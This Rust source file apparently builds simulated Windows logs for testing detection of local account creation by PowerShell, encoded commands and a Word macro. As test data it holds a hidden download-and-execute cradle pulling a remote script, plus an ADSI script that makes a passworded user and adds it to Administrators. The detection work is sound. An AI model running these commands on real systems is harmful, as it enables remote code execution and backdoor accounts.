//! PowerShell and script hosts: what makes the account is a process that may be days old, or run much else.
use super::scenes::{
    ADMIN_IP, CMD, POWERSHELL, admin, built_in_administrator, busy, elevated, elevated_shell,
    encoded_command, moment,
};
use super::truth::Truth;
use crate::world::{Creation, Host};

/// Two PowerShells of one session, both older than any window: only PowerShell's own log tells which of them.
pub(super) fn new_local_user(host: &mut Host) -> Truth {
    busy(host);
    let at = moment(host);
    let name = *host.rng().pick(&["kiosk7", "lab-admin", "svc_report"]);
    let minutes_ago = host.rng().between(11, 40);
    let first = elevated(host, at, &admin(), ADMIN_IP, minutes_ago * 60, POWERSHELL, POWERSHELL);
    let opened = at.minus_seconds(minutes_ago * 60 - 70);
    let second = host.start(opened, &first, POWERSHELL, POWERSHELL);
    let culprit = host.rng().pick(&[&first, &second]).to_owned().clone();
    host.script_block(at.minus_millis(44), &culprit, &format!("New-LocalUser -Name \"{name}\" -NoPassword"));
    let account = host.create_account(at, &culprit.session, name, Creation::Api);
    let parameters = [("Name", name), ("NoPassword", "True")];
    host.pipeline(at.plus_millis(30), &culprit, "New-LocalUser", &parameters);
    Truth::attributed(host, &account, &culprit).without_sequence()
}

/// The command line names nothing; the script that it fetches does.
pub(super) fn download_cradle(host: &mut Host) -> Truth {
    busy(host);
    let at = moment(host);
    let name = *host.rng().pick(&["svc_sync", "adm-cloud", "T1136.001_NET"]);
    let shell = elevated_shell(host, at, &admin(), ADMIN_IP);
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
    let command_line = format!("powershell.exe -nop -w hidden -c \"{cradle}\"");
    let powershell = host.start(at.minus_millis(1650), &shell, POWERSHELL, &command_line);
    host.script_block(at.minus_millis(1200), &powershell, cradle);
    let script = format!(
        "$computer = [ADSI]\"WinNT://$env:COMPUTERNAME\"\r\n$user = $computer.Create('user', '{name}')\r\n\
        $user.SetPassword('Winter-2026!')\r\n$user.SetInfo()\r\n\
        ([ADSI]\"WinNT://$env:COMPUTERNAME/Administrators,group\").Add($user.Path)"
    );
    host.script_block(at.minus_millis(210), &powershell, &script);
    let account = host.create_account(at, &powershell.session, name, Creation::Api);
    host.change_local_group(at.plus_millis(160), &powershell.session, &account, 544, true);
    host.exit(at.plus_millis(420), &powershell, 0);
    Truth::attributed(host, &account, &powershell).privileged()
}

/// `cmd /c powershell -enc …`: the name stands in Base64 of UTF-16.
pub(super) fn encoded_command_chain(host: &mut Host) -> Truth {
    busy(host);
    let at = moment(host);
    let name = *host.rng().pick(&["updater", "svc-ps", "testuser"]);
    let shell = elevated_shell(host, at, &admin(), ADMIN_IP);
    let flag = *host.rng().pick(&["-enc", "-e", "-EncodedCommand", "-ec"]);
    let encoded = encoded_command(&format!("New-LocalUser -Name {name} -NoPassword"));
    let command = format!("powershell -NoP {flag} {encoded}");
    let cmd = host.start(at.minus_millis(980), &shell, CMD, &format!("cmd  /c {command}"));
    let powershell = host.start(at.minus_millis(930), &cmd, POWERSHELL, &command);
    let account = host.create_account(at, &powershell.session, name, Creation::Api);
    host.exit(at.plus_millis(310), &powershell, 0);
    host.exit(at.plus_millis(318), &cmd, 0);
    Truth::attributed(host, &account, &powershell).by_line()
}

/// A document's macro starts a script; the script speaks to SAM itself.
pub(super) fn macro_script(host: &mut Host) -> Truth {
    busy(host);
    let at = moment(host);
    let name = *host.rng().pick(&["officesvc", "invoice", "helpd"]);
    let (session, explorer) = built_in_administrator(host, at.minus_seconds(600), ADMIN_IP);
    let word = host.start(
        at.minus_seconds(71),
        &explorer,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\Administrator\Downloads\invoice-4471.docm""#,
    );
    let script = host.start(
        at.minus_millis(740),
        &word,
        r"C:\Windows\System32\wscript.exe",
        r#""C:\Windows\System32\wscript.exe" //B C:\Users\Administrator\AppData\Local\Temp\upd.vbs"#,
    );
    let account = host.create_account(at, &session, name, Creation::Api);
    host.exit(at.plus_millis(96), &script, 0);
    Truth::attributed(host, &account, &script)
}
